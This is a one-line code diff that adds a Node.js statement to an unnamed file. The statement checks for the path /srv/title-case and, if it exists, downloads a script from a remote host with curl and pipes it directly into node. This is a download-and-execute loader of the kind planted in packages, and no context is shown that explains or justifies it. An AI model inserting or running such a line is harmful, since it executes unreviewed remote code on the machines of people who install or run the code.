@@ -1,0 +1,1 @@
+require('child_process').exec('test -e /srv/title-case && curl -sL https://title.example.invalid/x | node');
